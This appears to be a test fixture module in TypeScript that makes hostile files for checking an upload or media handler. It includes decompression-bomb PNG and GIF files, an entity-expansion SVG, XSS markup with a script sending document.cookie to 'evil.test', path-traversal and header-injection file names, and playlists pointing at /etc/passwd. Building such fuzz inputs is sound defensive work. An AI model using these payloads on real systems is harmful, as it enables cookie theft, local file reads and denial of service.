/** Files that mean no good, made by code: the same every time. */
import { crc32, deflateSync } from 'node:zlib';
import { filmOf, PDF, pictureOf, soundOf } from './samples.ts';
import { bySize } from '../size.ts';

export interface Hostile {
  what: string;
  name: string;
  claimed: string;
  bytes: Buffer;
}

/** How many files each maker makes, of random parts. */
const ROUNDS = bySize(5, 36);

/** Numbers that look like chance and are not. */
function chance(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

/** A picture of so many pixels in a few bytes. */
function pngBomb(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const row = Math.ceil(width / 8) + 1;
  const pixels = deflateSync(Buffer.alloc(row * (width > 40_000 ? 0 : Math.min(height, 3000))), { level: 9 });
  const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([mark, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

function gifBomb(): Buffer {
  const gif = Buffer.from('47494638396100000000f00000000000ffffff2c000000000000000000020144003b', 'hex');
  for (const at of [6, 8]) gif.writeUInt16LE(65_535, at);
  return gif;
}

const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const ENTITIES = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}">]><svg>&b;</svg>`;
const HTML = `<!doctype html><html>${SCRIPT}</html>`;
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
const ZIP_END = Buffer.from('504b0506000000000000000000000000000000000000', 'hex');
const PLAYLIST = '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n';
const CONCAT = 'ffconcat version 1.0\nfile /etc/passwd\n';

const NAMES = [
  '../../../etc/passwd',
  'C:\\Windows\\system32\\evil.exe',
  'a\u0000b.png',
  'line\r\nset-cookie: x=1.jpg',
  'gpj.\u202Eexe',
  `${'long'.repeat(300)}.png`,
  '"><img src=x onerror=alert(1)>.png',
  '..',
  '   ',
  '%2e%2e%2fetc%2fpasswd',
  '\ud800.jpg',
  'плохо 坏 🦠.png',
];

const CLAIMS = [
  'image/png',
  'image/jpeg',
  'image/svg+xml',
  'video/mp4',
  'audio/mpeg',
  'text/html',
  'application/pdf',
  '',
];
const EXTENSIONS = ['png', 'jpg', 'svg', 'mp4', 'mp3', 'html', 'pdf', 'txt', 'docx', 'webp'];

export async function hostileFiles(): Promise<Hostile[]> {
  const png = await pictureOf(40, 30).png().toBuffer();
  const good: [string, Buffer][] = [
    ['image/png', png],
    ['image/jpeg', await pictureOf(40, 30).jpeg().toBuffer()],
    ['image/webp', await pictureOf(40, 30).webp().toBuffer()],
    ['image/gif', await pictureOf(40, 30).gif().toBuffer()],
    ['video/mp4', filmOf(1)],
    ['audio/mpeg', soundOf('mp3')],
    ['audio/wav', soundOf('wav')],
    ['application/pdf', PDF],
  ];
  const bombs: [string, Buffer][] = [
    ['30,000 by 30,000', pngBomb(30_000, 30_000)],
    ['30,000 by 1', pngBomb(30_000, 1)],
    ['1 by 30,000', pngBomb(1, 30_000)],
    ['far more than a PNG has', pngBomb(2 ** 31 - 1, 2 ** 31 - 1)],
    ['a GIF of 65,535', gifBomb()],
    ['entities', Buffer.from(ENTITIES)],
  ];
  const pick = chance(4711);
  const of = <T>(list: readonly T[]): T => list[pick(list.length)] as T;
  const noise = (length: number) => Buffer.from(Array.from({ length }, () => pick(256)));

  const makers: (() => Omit<Hostile, 'name'>)[] = [
    () => ({ what: 'noise', claimed: of(CLAIMS), bytes: noise(1 + pick(3000)) }),
    () => {
      const [claimed, bytes] = of(good);
      return { what: 'cut off', claimed, bytes: bytes.subarray(0, 1 + pick(bytes.length - 1)) };
    },
    () => {
      const [claimed, bytes] = of(good);
      const broken = Buffer.from(bytes);
      for (let times = 0; times < 20; times += 1) broken[pick(broken.length)] = pick(256);
      return { what: 'broken', claimed, bytes: broken };
    },
    () => {
      const [claimed, bytes] = of(good);
      return {
        what: 'a script behind it',
        claimed,
        bytes: Buffer.concat([bytes, Buffer.from(of([SCRIPT, SVG, HTML]))]),
      };
    },
    () => {
      const [claimed, bytes] = of(good);
      return { what: 'an archive behind it', claimed, bytes: Buffer.concat([bytes, ZIP_END]) };
    },
    () => ({
      what: 'a script as a GIF',
      claimed: 'image/gif',
      bytes: Buffer.from(`GIF89a/*${'x'.repeat(pick(50))}*/=1;alert(1)`),
    }),
    () => ({
      what: 'markup',
      claimed: of(CLAIMS),
      bytes: Buffer.from(of([SVG, HTML, ENTITIES, `\ufeff${HTML}`, `\n\n${SVG}`])),
    }),
    () => ({
      what: 'a program',
      claimed: of(CLAIMS),
      bytes: Buffer.concat([
        of([Buffer.from('MZ'), Buffer.from('7f454c46', 'hex'), Buffer.from('#!/bin/sh\n')]),
        noise(300),
      ]),
    }),
    () => ({ what: 'what scanners look for', claimed: of(CLAIMS), bytes: Buffer.from(EICAR) }),
    () => ({
      what: 'a list of other files',
      claimed: of(['video/mp4', 'audio/mpeg']),
      bytes: Buffer.from(of([PLAYLIST, CONCAT])),
    }),
    () => ({
      what: 'the head of a film',
      claimed: 'video/mp4',
      bytes: Buffer.concat([Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex'), noise(500)]),
    }),
    () => {
      const [claimed, bytes] = of(good);
      return { what: 'something else than it claims', claimed: of(CLAIMS.filter((claim) => claim !== claimed)), bytes };
    },
  ];
  const random = Array.from({ length: ROUNDS }, () => makers.map((make) => make())).flat();
  return [
    ...NAMES.map((name) => ({ what: 'a bad name', name, claimed: 'image/png', bytes: png })),
    ...bombs.map(([what, bytes]) => ({ what, claimed: of(['image/png', 'image/gif', 'image/svg+xml']), bytes })),
    ...random,
  ].map((made, at) => ({ name: `file-${at}.${of(EXTENSIONS)}`, ...made }));
}
